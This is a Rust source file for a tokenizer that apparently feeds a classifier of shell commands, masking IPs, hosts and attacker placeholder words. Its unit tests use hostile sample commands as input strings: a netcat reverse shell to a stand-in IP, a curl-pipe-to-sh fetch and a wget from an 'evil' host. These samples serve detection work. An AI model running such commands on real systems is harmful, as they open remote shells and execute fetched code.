//! The tokenizer behind the hashed n-gram features.
//!
//! Words are runs of `[A-Za-z0-9_]` that may continue with `.` and `-`
//! (`os.system`, `apt-get`, `--no-check-certificate`); a `-` after whitespace
//! starts a word so flags stay whole (`-d`, `-fssl`). Every other visible ASCII
//! byte is a token of its own (`|`, `>`, `$`, `(`), and so is each newline.
//! Words are lowercased, and the literals that cheat sheets fill in for the
//! user are masked so the model learns the shape, not the placeholder:
//! numbers, IPs and ports become `<num>`, host names `<host>`, long words
//! `<long>`, long hex strings `<hex>`, and words such as `attacker` or `lhost`
//! `<ph>`.

use std::sync::OnceLock;

/// What a word was masked as, if anything.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mask {
    Num,
    Host,
    Long,
    Hex,
    Placeholder,
}

impl Mask {
    pub fn as_str(self) -> &'static str {
        match self {
            Mask::Num => "<num>",
            Mask::Host => "<host>",
            Mask::Long => "<long>",
            Mask::Hex => "<hex>",
            Mask::Placeholder => "<ph>",
        }
    }
}

/// One token: its hash (of the lowercased or masked text) and where it came from.
#[derive(Debug, Clone, Copy)]
pub struct Token<'a> {
    pub hash: u64,
    /// The original bytes of the token.
    pub text: &'a str,
    pub mask: Option<Mask>,
}

impl Token<'_> {
    /// The token as the model sees it: masked or lowercased.
    pub fn display(&self) -> String {
        match self.mask {
            Some(mask) => mask.as_str().to_owned(),
            None if self.text == "\n" => "\\n".to_owned(),
            None => self.text.to_ascii_lowercase(),
        }
    }
}

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;

/// FNV-1a over the ASCII-lowercased bytes.
pub fn hash_lower(bytes: &[u8]) -> u64 {
    let mut h = FNV_OFFSET;
    for &b in bytes {
        h = (h ^ u64::from(b.to_ascii_lowercase())).wrapping_mul(FNV_PRIME);
    }
    h
}

/// A strong 64-bit mixer (murmur3's finalizer), used to spread hashes over buckets.
pub fn mix(mut h: u64) -> u64 {
    h ^= h >> 33;
    h = h.wrapping_mul(0xff51_afd7_ed55_8ccd);
    h ^= h >> 33;
    h = h.wrapping_mul(0xc4ce_b9fe_1a85_ec53);
    h ^= h >> 33;
    h
}

/// Words that cheat sheets and test suites use where a real attack has its own value.
const PLACEHOLDERS: &[&str] = &[
    "attacker",
    "attackerip",
    "attacker_ip",
    "attacker-ip",
    "attackerhost",
    "attacker_host",
    "attacker_port",
    "attacker.com",
    "evil",
    "evil.com",
    "evilcorp",
    "lhost",
    "rhost",
    "lport",
    "rport",
    "your_ip",
    "yourip",
    "your_port",
    "your_host",
    "remote_ip",
    "remote_host",
    "remote_port",
    "ip",
    "port",
    "host",
    "example",
    "pathtoatomicsfolder",
    "externalpayloads",
    "atomic",
    "atomics",
    "victim",
    "kali",
    "tun0",
    "listener",
    "localhost",
];

/// Top-level domains that mark a dotted word as a host name. `sh` and `py` are
/// left out on purpose: they are far more often file extensions.
const TLDS: &[&str] = &[
    "com", "net", "org", "io", "ru", "cn", "xyz", "info", "top", "me", "cc", "tk", "biz", "co",
    "uk", "de", "onion", "site", "online", "club", "live", "pw", "su", "in", "us", "dev", "app",
    "cloud", "tech", "ga", "ml", "cf", "gq", "ir", "kp", "fr", "nl", "eu", "to", "gg", "ly",
    "link", "shop", "store", "work", "space", "website", "fun", "icu", "vip", "local", "internal",
    "lan",
];

/// A small set of word hashes (open addressing, 0 = empty slot): one or two
/// well-predicted probes per word where a binary search costs a handful of
/// mispredicted branches. Equal semantics: membership of the exact hash.
struct HashSet64 {
    slots: Box<[u64]>,
    /// Bit `k & 255` set for every member key `k`: most words miss here, before the mix and probe.
    filter: [u64; 4],
    /// Shortest and longest member word, a free first check.
    min_len: usize,
    max_len: usize,
}

impl HashSet64 {
    fn new<'a>(words: impl IntoIterator<Item = &'a str>, key: impl Fn(&[u8]) -> u64) -> Self {
        let words: Vec<&str> = words.into_iter().collect();
        let size = (words.len() * 4).next_power_of_two().max(16);
        let mut slots = vec![0u64; size].into_boxed_slice();
        let mut filter = [0u64; 4];
        for w in &words {
            let k = key(w.as_bytes());
            assert_ne!(k, 0, "{w:?} keys to the empty marker");
            filter[(k as usize & 255) / 64] |= 1 << (k % 64);
            let mut i = Self::home(k, size);
            while slots[i] != 0 && slots[i] != k {
                i = (i + 1) & (size - 1);
            }
            slots[i] = k;
        }
        HashSet64 {
            slots,
            filter,
            min_len: words.iter().map(|w| w.len()).min().unwrap_or(0),
            max_len: words.iter().map(|w| w.len()).max().unwrap_or(0),
        }
    }

    fn home(k: u64, size: usize) -> usize {
        (mix(k) as usize) & (size - 1)
    }

    /// Whether a word of `len` bytes with key `k` is in the set.
    fn contains(&self, len: usize, k: u64) -> bool {
        (self.min_len..=self.max_len).contains(&len) && self.contains_key(k)
    }

    /// Whether key `k` is in the set, whatever the word's length.
    fn contains_key(&self, k: u64) -> bool {
        if self.filter[(k as usize & 255) / 64] & (1 << (k % 64)) == 0 {
            return false;
        }
        let mask = self.slots.len() - 1;
        let mut i = Self::home(k, self.slots.len());
        loop {
            match self.slots[i] {
                0 => return false,
                s if s == k => return true,
                _ => i = (i + 1) & mask,
            }
        }
    }
}

/// The placeholder words, by lowercase hash.
fn placeholders() -> &'static HashSet64 {
    static SET: OnceLock<HashSet64> = OnceLock::new();
    SET.get_or_init(|| HashSet64::new(PLACEHOLDERS.iter().copied(), hash_lower))
}

/// A TLD candidate (at most 8 bytes) lowercased and packed into a u64; longer is never a TLD.
fn tld_key(tld: &[u8]) -> u64 {
    let mut key = [0u8; 8];
    for (k, b) in key.iter_mut().zip(tld) {
        *k = b.to_ascii_lowercase();
    }
    u64::from_le_bytes(key)
}

/// The TLDs, by packed lowercase bytes (with the length checked apart: no word byte is 0).
fn tlds() -> &'static HashSet64 {
    static SET: OnceLock<HashSet64> = OnceLock::new();
    SET.get_or_init(|| {
        assert!(TLDS.iter().all(|t| t.len() <= 8 && !t.is_empty()));
        HashSet64::new(TLDS.iter().copied(), tld_key)
    })
}

/// What a word looks like, gathered while it is scanned.
#[derive(Clone, Copy)]
struct Shape {
    digits_dots: bool,
    hex: bool,
    has_digit: bool,
    has_dot: bool,
}

/// Words longer than this are masked as `<long>` (or `<num>`, if only digits and dots).
const LONG_WORD: usize = 40;

/// What `word` (with its lowercase hash and shape) is masked as. Called for every word: cheap checks first.
fn classify(word: &[u8], hash: u64, shape: Shape) -> Option<Mask> {
    let Shape {
        digits_dots,
        hex,
        has_digit,
        has_dot,
    } = shape;
    if digits_dots {
        return Some(Mask::Num);
    }
    if word.len() > LONG_WORD {
        return Some(Mask::Long);
    }
    if word.len() >= 12 && hex && has_digit {
        return Some(Mask::Hex);
    }
    if placeholders().contains_key(hash) {
        return Some(Mask::Placeholder);
    }
    if has_dot && word[0].is_ascii_alphabetic() {
        if let Some(dot) = memchr::memrchr(b'.', word) {
            let tld = &word[dot + 1..];
            // Bytes past 8 cannot be a TLD; `tld_key` would drop them.
            if tld.len() <= 8 && tlds().contains(tld.len(), tld_key(tld)) {
                return Some(Mask::Host);
            }
        }
    }
    None
}

fn mask_hash(mask: Mask) -> u64 {
    static HASHES: OnceLock<[u64; 5]> = OnceLock::new();
    let all = HASHES.get_or_init(|| {
        [
            Mask::Num,
            Mask::Host,
            Mask::Long,
            Mask::Hex,
            Mask::Placeholder,
        ]
        .map(|m| hash_lower(m.as_str().as_bytes()))
    });
    all[mask as usize]
}

const fn is_word_start(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80
}

const fn is_word_continue(b: u8) -> bool {
    is_word_start(b) || b == b'.' || b == b'-'
}

// Byte classes for the tokenizer, one table lookup per byte.
const C_START: u8 = 1;
const C_CONTINUE: u8 = 2;
const C_DIGIT: u8 = 4;
const C_DOT: u8 = 8;
const C_DIGIT_OR_DOT: u8 = 16;
const C_HEX: u8 = 32;
const C_SPACE: u8 = 64;

const fn token_classes() -> [u8; 256] {
    let mut table = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        let mut c = 0;
        if is_word_start(b) {
            c |= C_START;
        }
        if is_word_continue(b) {
            c |= C_CONTINUE;
        }
        if b.is_ascii_digit() {
            c |= C_DIGIT | C_DIGIT_OR_DOT;
        }
        if b == b'.' {
            c |= C_DOT | C_DIGIT_OR_DOT;
        }
        if b.is_ascii_hexdigit() {
            c |= C_HEX;
        }
        if b.is_ascii_whitespace() {
            c |= C_SPACE;
        }
        table[i] = c;
        i += 1;
    }
    table
}

static TOKEN_CLASSES: [u8; 256] = token_classes();

const fn single_byte_hashes() -> [u64; 256] {
    let mut table = [0u64; 256];
    let mut i = 0;
    while i < 256 {
        table[i] = (FNV_OFFSET ^ (i as u8).to_ascii_lowercase() as u64).wrapping_mul(FNV_PRIME);
        i += 1;
    }
    table
}

/// `hash_lower(&[b])` for every byte.
static SINGLE_BYTE_HASHES: [u64; 256] = single_byte_hashes();

/// Calls `f` with every token of `text`, in order.
pub fn for_each_token<'a>(text: &'a str, mut f: impl FnMut(Token<'a>)) {
    try_for_each_token(text, |t| {
        f(t);
        true
    });
}

/// Calls `f` with the tokens of `text`, in order, until it returns false.
pub fn try_for_each_token<'a>(text: &'a str, mut f: impl FnMut(Token<'a>) -> bool) {
    let bytes = text.as_bytes();
    let class = |b: u8| TOKEN_CLASSES[b as usize];
    let mut i = 0;
    let mut prev_space = true;
    while i < bytes.len() {
        let b = bytes[i];
        let c = class(b);
        let starts_flag = b == b'-'
            && prev_space
            && bytes
                .get(i + 1)
                .is_some_and(|n| class(*n) & C_CONTINUE != 0);
        if c & C_START != 0 || starts_flag {
            let start = i;
            i += 1;
            while i < bytes.len() && class(bytes[i]) & C_CONTINUE != 0 {
                i += 1;
            }
            // Trailing `.`/`-` belong to the sentence or operator, not the word.
            let mut end = i;
            while end > start + 1 && matches!(bytes[end - 1], b'.' | b'-') {
                end -= 1;
            }
            // Never split inside a UTF-8 sequence: continuation bytes are word bytes.
            let word = &bytes[start..end];
            let (hash, mask) = if word.len() > LONG_WORD {
                // Masked whatever its hash (as `classify` decides, without the
                // hash): base64 blobs and minified code skip the per-byte multiply chain.
                let mask = if word.iter().all(|&b| class(b) & C_DIGIT_OR_DOT != 0) {
                    Mask::Num
                } else {
                    Mask::Long
                };
                (mask_hash(mask), Some(mask))
            } else {
                // One pass for the hash and the shape.
                let mut lower = FNV_OFFSET;
                let (mut all, mut any) = (u8::MAX, 0u8);
                for &b in word {
                    lower = (lower ^ u64::from(b.to_ascii_lowercase())).wrapping_mul(FNV_PRIME);
                    let c = class(b);
                    all &= c;
                    any |= c;
                }
                let shape = Shape {
                    digits_dots: all & C_DIGIT_OR_DOT != 0,
                    hex: all & C_HEX != 0,
                    has_digit: any & C_DIGIT != 0,
                    has_dot: any & C_DOT != 0,
                };
                let mask = classify(word, lower, shape);
                let hash = match mask {
                    Some(m) => mask_hash(m),
                    None => lower,
                };
                (hash, mask)
            };
            if !f(Token {
                hash,
                text: &text[start..end],
                mask,
            }) {
                return;
            }
            // Emit the trimmed punctuation as tokens of their own.
            for j in end..i {
                if !f(Token {
                    hash: SINGLE_BYTE_HASHES[bytes[j] as usize],
                    text: &text[j..j + 1],
                    mask: None,
                }) {
                    return;
                }
            }
            prev_space = false;
            continue;
        }
        if b == b'\n' {
            if !f(Token {
                hash: SINGLE_BYTE_HASHES[b'\n' as usize],
                text: &text[i..i + 1],
                mask: None,
            }) {
                return;
            }
            prev_space = true;
        } else if c & C_SPACE != 0 {
            prev_space = true;
        } else {
            if !f(Token {
                hash: SINGLE_BYTE_HASHES[b as usize],
                text: &text[i..i + 1],
                mask: None,
            }) {
                return;
            }
            prev_space = false;
        }
        i += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tokens(text: &str) -> Vec<String> {
        let mut out = Vec::new();
        for_each_token(text, |t| out.push(t.display()));
        out
    }

    #[test]
    fn words_flags_and_operators() {
        assert_eq!(
            tokens("curl -fsSL https://x | sh"),
            ["curl", "-fssl", "https", ":", "/", "/", "x", "|", "sh"]
        );
        assert_eq!(
            tokens("echo $(base64 -d)"),
            ["echo", "$", "(", "base64", "-d", ")"]
        );
        assert_eq!(
            tokens("os.system('id')"),
            ["os.system", "(", "'", "id", "'", ")"]
        );
        assert_eq!(tokens("a\nb"), ["a", "\\n", "b"]);
        assert_eq!(tokens("x-"), ["x", "-"]);
        assert_eq!(tokens("end."), ["end", "."]);
    }

    #[test]
    fn masks_cheat_sheet_literals() {
        assert_eq!(
            tokens("nc 10.0.0.1 4242 -e /bin/sh"),
            ["nc", "<num>", "<num>", "-e", "/", "bin", "/", "sh"]
        );
        assert_eq!(tokens("ping attacker.com"), ["ping", "<ph>"]);
        assert_eq!(tokens("wget evil-site.ru/x"), ["wget", "<host>", "/", "x"]);
        assert_eq!(tokens("LHOST=1"), ["<ph>", "=", "<num>"]);
        assert_eq!(tokens("sha 0123456789abcdef0123"), ["sha", "<hex>"]);
        assert_eq!(tokens(&"A".repeat(41)), ["<long>"]);
        // A file name with an extension that is also a TLD-free word stays.
        assert_eq!(tokens("run install.sh"), ["run", "install.sh"]);
    }

    #[test]
    fn hashing_is_case_insensitive_and_stable() {
        assert_eq!(hash_lower(b"CURL"), hash_lower(b"curl"));
        // Pinned: the training matrix depends on these exact values.
        assert_eq!(hash_lower(b""), 0xcbf2_9ce4_8422_2325);
        assert_eq!(hash_lower(b"a"), 0xaf63_dc4c_8601_ec8c);
    }

    #[test]
    fn non_ascii_is_kept_whole() {
        assert_eq!(tokens("héllo wörld"), ["héllo", "wörld"]);
    }

    #[test]
    fn byte_tables_agree_with_their_definitions() {
        for b in 0..=255u8 {
            let c = TOKEN_CLASSES[b as usize];
            assert_eq!(c & C_START != 0, is_word_start(b), "{b}");
            assert_eq!(c & C_CONTINUE != 0, is_word_continue(b), "{b}");
            assert_eq!(c & C_DIGIT != 0, b.is_ascii_digit(), "{b}");
            assert_eq!(c & C_DOT != 0, b == b'.', "{b}");
            assert_eq!(c & C_DIGIT_OR_DOT != 0, b.is_ascii_digit() || b == b'.');
            assert_eq!(c & C_HEX != 0, b.is_ascii_hexdigit(), "{b}");
            assert_eq!(c & C_SPACE != 0, b.is_ascii_whitespace(), "{b}");
            assert_eq!(SINGLE_BYTE_HASHES[b as usize], hash_lower(&[b]), "{b}");
        }
    }

    #[test]
    fn word_sets_hold_exactly_their_words() {
        for p in PLACEHOLDERS {
            assert!(placeholders().contains_key(hash_lower(p.as_bytes())), "{p}");
            assert!(placeholders().contains_key(hash_lower(p.to_ascii_uppercase().as_bytes())));
        }
        for w in ["attackers", "hostname", "evilcorps", "ipv4", "", "x"] {
            assert!(
                !placeholders().contains_key(hash_lower(w.as_bytes())),
                "{w}"
            );
        }
        // The TLD set against the list it replaces, on near misses too.
        let by_list = |tld: &str| TLDS.iter().any(|t| t.eq_ignore_ascii_case(tld));
        let mut probes: Vec<String> = Vec::new();
        for t in TLDS {
            probes.push(t.to_string());
            probes.push(t.to_ascii_uppercase());
            probes.push(format!("{t}x"));
            probes.push(t[..t.len() - 1].to_string());
        }
        probes.extend(["sh", "py", "internals", "a", "", "c\u{e9}", "com-"].map(String::from));
        for p in &probes {
            let set = tlds().contains(p.len(), tld_key(p.as_bytes())) && p.len() <= 8;
            assert_eq!(set, by_list(p), "{p:?}");
        }
    }

    #[test]
    fn host_masking_follows_the_tld_list() {
        assert_eq!(tokens("x.COM"), ["<host>"]);
        assert_eq!(tokens("a.b.internal"), ["<host>"]);
        assert_eq!(tokens("a.b.internals"), ["a.b.internals"]);
        assert_eq!(tokens("os.path.join"), ["os.path.join"]);
        assert_eq!(tokens("1.com"), ["1.com"]);
        assert_eq!(tokens("-x.com"), ["-x.com"]);
    }
}
